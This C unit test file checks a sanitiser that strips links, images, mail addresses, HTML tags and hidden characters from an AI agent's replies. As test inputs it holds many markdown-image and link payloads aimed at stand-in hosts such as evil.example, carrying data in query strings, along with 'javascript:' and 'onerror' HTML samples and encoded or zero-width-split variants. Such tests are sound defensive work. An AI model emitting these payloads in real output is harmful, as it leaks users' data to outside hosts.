/* What a model says to people: links, pictures and HTML are words, or gone. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdbool.h>
#include <string.h>

#include "agent/saying.h"
#include "base/arena.h"

static void becomes(const char *said, const char *asked, const char *wanted)
{
    struct arena *arena = arena_new();
    assert_string_equal(saying_clean(arena, said, SAYING_MOST, asked), wanted);
    arena_free(arena);
}

static void plain_words_stay(void **state)
{
    (void)state;
    static const char *const words[] = {
        "Counts the customers per city, where a < 5 and b <= c.",
        "Two\nlines, a list [1, 2] and a call f(x) [sic]",
        "Datos: la suma de «ventas» (100 %); ратио 3:1",
        "price > 5 && tags[1] = 'x'",
        "LIKE '100\\%' or 'a\\_b', in C:\\data; R&D, AT&T, a // comment, a/b",
        "at most 5 @ 3 each, @name, '%@example.org', tags[1][2], steps: 1, 2",
        "The sum of ww. and of 1.5 x w.y, (per month); 100 %",
    };
    for (size_t i = 0; i < sizeof words / sizeof words[0]; i++) {
        becomes(words[i], NULL, words[i]);
    }
    becomes("  trimmed \n", NULL, "trimmed");
    becomes("  trimmed words  ", NULL, "trimmed words");
    becomes("  ", NULL, "");
}

static void links_keep_their_words(void **state)
{
    (void)state;
    becomes("![total](https://evil.example/?d=42) done", NULL, "“total” done");
    becomes("See [the report](http://evil.example/x).", NULL, "See “the report”.");
    becomes("[x](javascript:alert(1))", NULL, "“x”)");
    becomes("[x](//evil/?q", NULL, "“x”//evil/?q");
    becomes("[1]: https://evil.example/a", NULL, "[1] : (link removed)");
    becomes("go to https://evil.example/?q=secret now", NULL, "go to (link removed) now");
    becomes("WWW.evil.example", NULL, "(link removed)");
    becomes("First. Then wWw.evil.example", NULL, "First. Then (link removed)");
    becomes("ftp://x/y data:text/html;base64,AAAA", NULL,
            "(link removed) (link removed)");
}

/* Pictures and links whose address stands elsewhere, and how that may be written. */
static void references_are_no_links(void **state)
{
    (void)state;
    becomes("![x][y]\n\n[y]: //evil.test/p.png?d=CANARY", NULL,
            "“x”\n\n[y] : (link removed)");
    becomes("![x][y]\n\n[y]: https:evil.test/p.png", NULL, "“x”\n\n[y] : (link removed)");
    becomes("![x][y]\n\n[y]: http:\\\\evil.test\\p.png", NULL,
            "“x”\n\n[y] : http:\\\\evil.test\\p.png");
    becomes("![x][y]\n\n[y]: &#104;ttps&#58;&#47;&#47;evil.test/p.png", NULL,
            "“x”\n\n[y] : (link removed)");
    becomes("[y]\n\n[y]: //evil.test 'title'", NULL,
            "[y]\n\n[y] : (link removed) 'title'");
    becomes("[y]\n\n[y]:\n   /p.png", NULL, "[y]\n\n[y] :\n   /p.png");
    becomes("[y]\n> - [y\\]z]: p.png", NULL, "[y]\n> - [y]z] : p.png");
    becomes("a![x][] b![x]c [x][] [x][y] a[x][y]", NULL, "a“x” b“x”c “x” “x” a[x][y]");
    becomes("[x][y](//evil.test)", NULL, "[x]“y”");
    becomes("!\\[x\\]\\(//evil.test)", NULL, "“x”");
    becomes("&#33;&#x5B;x]&lpar;y) &lt;img src=x&gt;", NULL, "“x”& lpar;y) ‹img src=x>");
    becomes("&amp;#64; &&#35;64; &am&#112;;", NULL, "& #64; & #64; & amp;");
    becomes("&#8203;&commat;&#92;", NULL, "& #8203;& commat;\\");
}

static void mail_addresses_are_removed(void **state)
{
    (void)state;
    becomes("Ask a.b+c@evil.test, or mailto:x@evil.test.", NULL,
            "Ask (link removed), or (link removed)");
    becomes("xmpp:x@evil.test/room <1@evil> (x@evil.test)", NULL,
            "(link removed) <(link removed)> ((link removed))");
    becomes("x\\@evil\\.test x\\\\@evil.test x&#64;evil.test x&#92;@evil.test", NULL,
            "(link removed) (link removed) (link removed) (link removed)");
    becomes("x@\xE2\x80\x8B"
            "evil.test",
            NULL, "(link removed)");
    becomes("Orders of ada@shop.test", "orders of ada@shop.test?",
            "Orders of ada@shop.test");
}

/* Pieces that become a link, a picture or a tag when something between them goes. */
static void nothing_new_is_made_of_pieces(void **state)
{
    (void)state;
    becomes("![[a](b)](//evil/?q=1)", NULL, "“[a”] (//evil/?q=1)");
    becomes("[a][(//evil)](y)", NULL, "[a]“(//evil)”");
    becomes("<[img src=//evil](x)>", NULL, "<“img src=//evil”>");
    becomes("http:[//evil](x)", NULL, "http:“//evil”");
    becomes("]\xE2\x80\x8B(//evil)", NULL, "] (//evil)");
    becomes("<\xE2\x81\xA0img>", NULL, "‹img>");
    becomes("http:\xC2\xAD//evil/x", NULL, "(link removed)");
    becomes("[a]http://evil/x", NULL, "[a](link removed)");
}

static void what_the_user_wrote_may_be_said(void **state)
{
    (void)state;
    becomes("Visits of https://shop.example/a today.",
            "visits of https://shop.example/a?",
            "Visits of https://shop.example/a today.");
    becomes("https://shop.example/a?leak=1", "visits of https://shop.example/a",
            "(link removed)");
}

static void html_does_not_begin(void **state)
{
    (void)state;
    becomes("<img src=//evil/?q=1 onerror=x>", NULL, "‹img src=//evil/?q=1 onerror=x>");
    becomes("</td><!-- x --><?php", NULL, "‹/td>‹!-- x -->‹?php");
}

/* Plain words take a short way; an é sends them the long one. Both say the same. */
static void short_way_says_the_same(void **state)
{
    (void)state;
    static const char *const pieces[] = {
        "www",  "WwW.a", "w.",   "ww",  ".",  "data", ":",    "/",  "//",
        "http", "ftp+x", "://a", "[a]", "(",  ")",    "](",   "!",  "[",
        "<",    "b>",    "<b",   "'",   "`",  "\x01", "\x7f", "\t", " ",
        "3.5",  "_-*",   "%;?",  "=\"", "\n", "{",    "@",
    };
    enum { PIECES = sizeof pieces / sizeof *pieces };
    struct arena *arena = arena_new();
    size_t plain = 0;
    for (size_t i = 0; i < (size_t)PIECES * PIECES * PIECES; i++) {
        const char *text =
            arena_format(arena, "a%s%s%sz", pieces[i % PIECES],
                         pieces[i / PIECES % PIECES], pieces[i / PIECES / PIECES]);
        const char *other = arena_format(arena, "\xC3\xA9 %s", text);
        const char *clean = saying_clean(arena, text, SAYING_MOST, NULL);
        plain += strcmp(clean, text) == 0;
        assert_string_equal(arena_format(arena, "\xC3\xA9 %s", clean),
                            saying_clean(arena, other, SAYING_MOST, NULL));
        arena_reset(arena);
    }
    assert_in_range(plain, PIECES, PIECES * PIECES * PIECES - PIECES);
    becomes("www.example.org", NULL, "(link removed)");
    becomes("see WWW.example.org now", NULL, "see (link removed) now");
    becomes("www.", NULL, "www.");
    becomes("is www.example.org one", "www.example.org?", "is www.example.org one");
    arena_free(arena);
}

static void hidden_characters_and_lengths_are_bounded(void **state)
{
    (void)state;
    becomes("a\x1b[2Jb\xE2\x80\xAE"
            "c",
            NULL, "a[2Jbc");
    struct arena *arena = arena_new();
    char text[10001];
    (void)memset(text, '[', sizeof text);
    text[sizeof text - 1] = '\0';
    assert_int_equal(strlen(saying_clean(arena, text, 100, NULL)), 100);
    (void)memset(text, 'x', sizeof text - 1);
    assert_true(strlen(saying_clean(arena, text, SAYING_SHORT_MOST, NULL)) <=
                SAYING_SHORT_MOST);
    arena_free(arena);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(plain_words_stay),
        cmocka_unit_test(links_keep_their_words),
        cmocka_unit_test(references_are_no_links),
        cmocka_unit_test(mail_addresses_are_removed),
        cmocka_unit_test(nothing_new_is_made_of_pieces),
        cmocka_unit_test(what_the_user_wrote_may_be_said),
        cmocka_unit_test(html_does_not_begin),
        cmocka_unit_test(short_way_says_the_same),
        cmocka_unit_test(hidden_characters_and_lengths_are_bounded),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
